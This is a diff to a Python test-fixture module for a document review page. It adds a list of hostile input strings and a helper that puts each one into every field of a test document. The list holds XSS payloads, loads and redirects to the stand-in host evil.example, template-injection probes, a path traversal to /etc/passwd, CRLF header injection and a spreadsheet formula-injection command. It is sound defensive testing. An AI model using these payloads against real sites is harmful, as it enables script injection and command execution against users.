@@ -1,6 +1,7 @@
 """Documents and proposals for the tests of the review page, made in code."""
 
 import random
+import re
 from datetime import date
 
 from app_kit import bundled, folder_with
@@ -109,7 +110,9 @@ def small():
 def large(count=500, paragraphs=60, seed=7):
     """Ten pages and ``count`` proposals of all sizes, many of them overlapping."""
     rng = random.Random(seed)  # noqa: S311
-    words = "Rome Vienna warned may pact on 4 May 1901 signed talks the of and in fail 😀".split()
+    words = re.findall(
+        r"\S+", "Rome Vienna warned may pact on 4 May 1901 signed the of and fail 😀"
+    )
     text = "\n\n".join(
         " ".join(
             " ".join(rng.choice(words) for _ in range(rng.randint(8, 20))) + "."
@@ -131,6 +134,86 @@ def large(count=500, paragraphs=60, seed=7):
         one = proposal(doc, draft, reader="kit", version=1, p=round(rng.uniform(0.4, 1), 3))
         found[one.id] = one
     return doc, list(found.values())
+
+
+HOSTILE_TEXTS = (
+    "<script>window.pwned=1</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "</script><script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg/onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<math><mtext><style><img src onerror=window.pwned=1></style></mtext></math>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<body onload=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<a href='javascript:window.pwned=1'>x</a>",
+    "javascript:window.pwned=1",
+    "<form action=//evil.example><button>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<object data=//evil.example></object>",
+    "<template><script>window.pwned=1</script></template>",
+    "</textarea><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</li></ol></section></main>",
+    "</option></select><img src=x onerror=window.pwned=1>",
+    "<!-- <script>window.pwned=1</script> -->",
+    "]]><![CDATA[<x>",
+    '" onmouseover=window.pwned=1 x="',
+    "' onmouseover=window.pwned=1 x='",
+    "` onmouseover=window.pwned=1",
+    "{{ 7*7 }} {% raw %} {# x #} ${7*7} #{7*7}",
+    "&lt;script&gt; &amp;amp; &#60;b&#62; &nbsp",
+    "line\u2028separator\u2029paragraph",
+    "\u202eright to left override\u202c and \u2066isolate",
+    "zero\u200bwidth\ufeffmark\u00adhyphen",
+    "nul\0byte and \x1b[31mescape \x07 bell",
+    "carriage\rreturn and\r\nboth, form\ffeed, tab\there",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family and \U0001f1ee\U0001f1f9 flag",
+    "Z\u0351\u0300a\u0300\u0301\u0302lgo e\u0301",
+    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and \u05e2\u05d1\u05e8\u05d9\u05ea",
+    "\U000e0001\U000e0041 tags, \ufdd0 noncharacter, \U0010ffff last",
+    "../../etc/passwd",
+    "%3Cscript%3E%0d%0aSet-Cookie: x=1",
+    "=cmd|' /C calc'!A0",
+)
+
+
+def hostile(string):
+    """A document in which every text is a hostile one: words, title, fields, reasons, names."""
+    doc = Document(
+        text=f"Rome met {string} and Vienna on 4 May 1901.\n\n{string}",
+        name=f"{string}.txt",
+        published=date(1901, 6, 1),
+        title=string,
+        author=string,
+        outlet=string,
+    )
+    first, last = len("Rome met "), len("Rome met ") + len(string)
+    by = {"reader": string, "version": 1, "p": 0.96}
+    own = {"reason": string, "rule": string, "parts": (Part(string, Span(0, 4)),)}
+    drafts = [
+        Draft(
+            kind="actor",
+            span=Span(first, last),
+            fields={"actor": string, "name": string, "type": string, "candidates": (string,)},
+            **own,
+        ),
+        Draft(kind="attribution", span=Span(0, last), fields={"who": string}, **own),
+        Draft(kind="hedge", span=Span(first, last), fields={"band": string, string: string}, **own),
+        Draft(
+            kind="tie",
+            span=Span(0, last + 4),
+            fields={"a": string, "b": "ITA", "sign": "+"},
+            **own,
+        ),
+        Draft(kind="issue", span=Span(0, 4), fields={"label": string, "sides": (string,)}, **own),
+    ]
+    return doc, [proposal(doc, draft, **by) for draft in drafts]
 
 
 def reviewed(path, *documents):
